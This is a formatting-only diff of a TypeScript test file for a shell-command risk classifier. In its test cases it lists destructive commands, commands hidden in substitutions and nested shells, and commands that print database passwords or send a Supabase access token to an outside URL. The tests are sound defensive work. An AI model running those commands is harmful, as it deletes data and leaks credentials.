@@ -56,20 +56,52 @@ const RISKY: [string, RegExp][] = [
 ];
 
 const SAFE = [
-  'supabase functions list', 'supabase functions logs generate-content --tail', 'supabase migration list', 'supabase migration new x',
-  'supabase db push --dry-run', 'supabase db query --read-only "select 1"', 'supabase secrets list', 'supabase gen types typescript --linked',
-  'supabase start', 'supabase status', 'supabase inspect db locks', 'supabase db diff --remote',
-  'curl https://trxmsoyjjoopnvzohmvi.supabase.co/functions/v1/health', 'curl -sS -I https://x', 'curl -X GET https://x', 'curl -X HEAD https://x',
-  'git status', 'git log --oneline -5', 'git diff HEAD~1', 'git show HEAD', 'git fetch origin', 'git branch -a', 'git reset HEAD file', 'git push --dry-run',
-  'npm run build', 'npm test', 'npm ci', 'npm run dev', 'psql -c "select count(*) from pg_stat_activity"', 'psql "$DB_URL"',
-  'echo hello | grep h', 'ls -la', 'cat supabase/config.toml', 'jq . out.json', 'command -v supabase', 'node -v',
+  'supabase functions list',
+  'supabase functions logs generate-content --tail',
+  'supabase migration list',
+  'supabase migration new x',
+  'supabase db push --dry-run',
+  'supabase db query --read-only "select 1"',
+  'supabase secrets list',
+  'supabase gen types typescript --linked',
+  'supabase start',
+  'supabase status',
+  'supabase inspect db locks',
+  'supabase db diff --remote',
+  'curl https://trxmsoyjjoopnvzohmvi.supabase.co/functions/v1/health',
+  'curl -sS -I https://x',
+  'curl -X GET https://x',
+  'curl -X HEAD https://x',
+  'git status',
+  'git log --oneline -5',
+  'git diff HEAD~1',
+  'git show HEAD',
+  'git fetch origin',
+  'git branch -a',
+  'git reset HEAD file',
+  'git push --dry-run',
+  'npm run build',
+  'npm test',
+  'npm ci',
+  'npm run dev',
+  'psql -c "select count(*) from pg_stat_activity"',
+  'psql "$DB_URL"',
+  'echo hello | grep h',
+  'ls -la',
+  'cat supabase/config.toml',
+  'jq . out.json',
+  'command -v supabase',
+  'node -v',
 ];
 
 test('every risky command is risky, with a reason that says why', () => {
   for (const [command, reason] of RISKY) {
     const risk = classifyShellRisk(command);
     assert.equal(risk.level, 'risky', command);
-    assert.ok(risk.reasons.some((r) => reason.test(r)), `${command}: ${risk.reasons.join(' | ')}`);
+    assert.ok(
+      risk.reasons.some((r) => reason.test(r)),
+      `${command}: ${risk.reasons.join(' | ')}`,
+    );
   }
 });
 
@@ -83,17 +115,35 @@ test('every read-only command is safe', () => {
 test('chains and pipelines are risky if any part is; each reason is listed once', () => {
   const chain = classifyShellRisk('git status && git push; npm run build | tee log && rm -rf dist');
   assert.equal(chain.level, 'risky');
-  assert.deepEqual(chain.reasons, ['git push publishes commits to a remote.', 'tee overwrites log.', 'rm deletes files.']);
+  assert.deepEqual(chain.reasons, [
+    'git push publishes commits to a remote.',
+    'tee overwrites log.',
+    'rm deletes files.',
+  ]);
   assert.equal(classifyShellRisk('git status; git log | head -5 || echo none').level, 'safe');
   assert.equal(classifyShellRisk('git revert HEAD\ngit push origin main').reasons.length, 2);
 });
 
 test('commands hidden in substitutions, wrappers and nested shells are found', () => {
   for (const hidden of [
-    'echo $(rm -rf /tmp/x)', 'echo "`git push`"', 'bash -c "supabase db reset"', "sh -lc 'kill 1'", 'eval "git push"',
-    'find . -name "*.log" -exec rm {} +', 'find . -delete', 'ls | xargs rm', 'env FOO=1 git push', 'timeout 60 supabase db push',
-    'watch -n 5 kill 1', "ssh prod 'rm -rf /srv/app'", 'diff <(git push) x', 'bash <<EOF\ngit push\nEOF',
-    'if git diff --quiet; then git push; fi', 'for f in *.sql; do psql -f "$f"; done', '$SUPABASE db push', 'sudo -u postgres psql',
+    'echo $(rm -rf /tmp/x)',
+    'echo "`git push`"',
+    'bash -c "supabase db reset"',
+    "sh -lc 'kill 1'",
+    'eval "git push"',
+    'find . -name "*.log" -exec rm {} +',
+    'find . -delete',
+    'ls | xargs rm',
+    'env FOO=1 git push',
+    'timeout 60 supabase db push',
+    'watch -n 5 kill 1',
+    "ssh prod 'rm -rf /srv/app'",
+    'diff <(git push) x',
+    'bash <<EOF\ngit push\nEOF',
+    'if git diff --quiet; then git push; fi',
+    'for f in *.sql; do psql -f "$f"; done',
+    '$SUPABASE db push',
+    'sudo -u postgres psql',
   ]) {
     assert.equal(classifyShellRisk(hidden).level, 'risky', hidden);
   }
@@ -102,12 +152,26 @@ test('commands hidden in substitutions, wrappers and nested shells are found', (
 test('writing a file through a redirection is risky and names the file', () => {
   const types = classifyShellRisk('supabase gen types typescript --linked > src/integrations/supabase/types.ts');
   assert.equal(types.level, 'risky');
-  assert.deepEqual(types.reasons, ['Overwrites src/integrations/supabase/types.ts: the shell empties it before the command runs, even if the command then fails.']);
+  assert.deepEqual(types.reasons, [
+    'Overwrites src/integrations/supabase/types.ts: the shell empties it before the command runs, even if the command then fails.',
+  ]);
   assert.deepEqual(classifyShellRisk('echo x >> log.txt 2>/dev/null').reasons, ['Appends to log.txt.']);
-  assert.deepEqual(classifyShellRisk('deno test &> out.log').reasons, ['Overwrites out.log: the shell empties it before the command runs, even if the command then fails.']);
+  assert.deepEqual(classifyShellRisk('deno test &> out.log').reasons, [
+    'Overwrites out.log: the shell empties it before the command runs, even if the command then fails.',
+  ]);
   assert.deepEqual(classifyShellRisk('supabase status | tee -a status.log').reasons, ['tee appends to status.log.']);
-  assert.deepEqual(classifyShellRisk('curl -s -o health.json https://example.com/health').reasons, ['curl writes the response to health.json, replacing it.']);
-  for (const harmless of ['echo x > /dev/null', 'ls 2>&1', 'supabase status 2> /dev/null', 'cat file >&2', 'curl -o /dev/null -s https://x', 'echo x | tee', 'echo x 1>&-']) {
+  assert.deepEqual(classifyShellRisk('curl -s -o health.json https://example.com/health').reasons, [
+    'curl writes the response to health.json, replacing it.',
+  ]);
+  for (const harmless of [
+    'echo x > /dev/null',
+    'ls 2>&1',
+    'supabase status 2> /dev/null',
+    'cat file >&2',
+    'curl -o /dev/null -s https://x',
+    'echo x | tee',
+    'echo x 1>&-',
+  ]) {
     assert.equal(classifyShellRisk(harmless).level, 'safe', harmless);
   }
 });
@@ -136,12 +200,21 @@ test('psql: the SQL of -c, here-documents and here-strings is judged like a SQL 
   for (const [command, reason] of cases) {
     const risk = classifyShellRisk(command);
     assert.equal(risk.level, 'risky', command);
-    assert.ok(risk.reasons.some((r) => reason.test(r)), `${command}: ${risk.reasons.join(' | ')}`);
+    assert.ok(
+      risk.reasons.some((r) => reason.test(r)),
+      `${command}: ${risk.reasons.join(' | ')}`,
+    );
   }
   for (const readOnly of [
-    'psql -c "select count(*) from pg_stat_activity"', "psql -c 'explain select * from t'", 'psql -c "show work_mem"', 'psql -c "\\dt public.*"',
-    'psql -c "\\x" -c "select * from pg_locks"', "psql <<'SQL'\n\\timing on\nselect now();\n-- delete later\nSQL", 'psql -l',
-    "psql -c \"select * from t where note = 'drop table x'\"", 'psql -c "\\copy (select 1) to stdout"',
+    'psql -c "select count(*) from pg_stat_activity"',
+    "psql -c 'explain select * from t'",
+    'psql -c "show work_mem"',
+    'psql -c "\\dt public.*"',
+    'psql -c "\\x" -c "select * from pg_locks"',
+    "psql <<'SQL'\n\\timing on\nselect now();\n-- delete later\nSQL",
+    'psql -l',
+    'psql -c "select * from t where note = \'drop table x\'"',
+    'psql -c "\\copy (select 1) to stdout"',
   ]) {
     assert.deepEqual(classifyShellRisk(readOnly).reasons, [], readOnly);
   }
@@ -153,7 +226,10 @@ test('psql script classification keeps comments, strings and look-alike names ou
   assert.deepEqual(psqlScriptRisks('/* update */ select 1'), []);
   assert.equal(psqlScriptRisks('insert into t values (1)').length, 1);
   assert.match(psqlScriptRisks('copy t from stdin')[0], /COPY/);
-  assert.match(psqlScriptRisks('\\set ON_ERROR_STOP on\nselect 1;\n\\o /tmp/x.txt\nselect 2;')[0], /writes query output to \/tmp\/x\.txt/);
+  assert.match(
+    psqlScriptRisks('\\set ON_ERROR_STOP on\nselect 1;\n\\o /tmp/x.txt\nselect 2;')[0],
+    /writes query output to \/tmp\/x\.txt/,
+  );
   assert.match(psqlScriptRisks('\\frobnicate')[0], /not known to only read/);
 });
 
@@ -185,14 +261,28 @@ test('Postgres command-line tools that drop, create, rewrite, restore, stop or w
   for (const [command, reason] of cases) {
     const risk = classifyShellRisk(command);
     assert.equal(risk.level, 'risky', command);
-    assert.ok(risk.reasons.some((r) => reason.test(r)), `${command}: ${risk.reasons.join(' | ')}`);
+    assert.ok(
+      risk.reasons.some((r) => reason.test(r)),
+      `${command}: ${risk.reasons.join(' | ')}`,
+    );
   }
-  for (const safe of ['pg_dump app', 'pg_dump -Fc app | gzip -c', 'pg_restore -l backup.dump', 'pg_restore backup.dump', 'pg_ctl status -D data', 'pgbench -S -T 10 app', 'pg_isready -h db', 'psql', 'psql "$DB_URL"', 'psql -h db.example.com -U postgres app']) {
+  for (const safe of [
+    'pg_dump app',
+    'pg_dump -Fc app | gzip -c',
+    'pg_restore -l backup.dump',
+    'pg_restore backup.dump',
+    'pg_ctl status -D data',
+    'pgbench -S -T 10 app',
+    'pg_isready -h db',
+    'psql',
+    'psql "$DB_URL"',
+    'psql -h db.example.com -U postgres app',
+  ]) {
     assert.deepEqual(classifyShellRisk(safe).reasons, [], safe);
   }
 });
 
-test('commands that print or send the terminal\'s secrets are risky, with a reason that says so', () => {
+test("commands that print or send the terminal's secrets are risky, with a reason that says so", () => {
   const cases: [string, RegExp][] = [
     ['printenv', /printenv prints the terminal's environment/],
     ['printenv PGPASSWORD', /prints a secret/],
@@ -206,15 +296,29 @@ test('commands that print or send the terminal\'s secrets are risky, with a reas
     ['echo $PGPASSWORD', /Reads \$PGPASSWORD, the database password/],
     ['echo "${PGPASSWORD:-unset}" > pg.txt', /Reads \$PGPASSWORD/],
     ['curl "https://x.example/?t=$SUPABASE_ACCESS_TOKEN"', /Reads \$SUPABASE_ACCESS_TOKEN, the Supabase access token/],
-    ['curl -H "Authorization: Bearer ${SUPABASE_ACCESS_TOKEN}" https://api.supabase.com/v1/projects', /SUPABASE_ACCESS_TOKEN/],
+    [
+      'curl -H "Authorization: Bearer ${SUPABASE_ACCESS_TOKEN}" https://api.supabase.com/v1/projects',
+      /SUPABASE_ACCESS_TOKEN/,
+    ],
     ["bash -c 'echo $PGPASSWORD'", /Reads \$PGPASSWORD/],
   ];
   for (const [command, reason] of cases) {
     const risk = classifyShellRisk(command);
     assert.equal(risk.level, 'risky', command);
-    assert.ok(risk.reasons.some((r) => reason.test(r)), `${command}: ${risk.reasons.join(' | ')}`);
+    assert.ok(
+      risk.reasons.some((r) => reason.test(r)),
+      `${command}: ${risk.reasons.join(' | ')}`,
+    );
   }
-  for (const safe of ['printenv HOME', 'env FOO=1 node -v', 'set -euo pipefail', 'export PATH="$PATH:/opt/bin"', 'echo $HOME', 'declare -a list', 'printf \'%s\' "${RUNBOOK_SECRET_NEW_KEY}" | wc -c']) {
+  for (const safe of [
+    'printenv HOME',
+    'env FOO=1 node -v',
+    'set -euo pipefail',
+    'export PATH="$PATH:/opt/bin"',
+    'echo $HOME',
+    'declare -a list',
+    'printf \'%s\' "${RUNBOOK_SECRET_NEW_KEY}" | wc -c',
+  ]) {
     assert.deepEqual(classifyShellRisk(safe).reasons, [], safe);
   }
 });
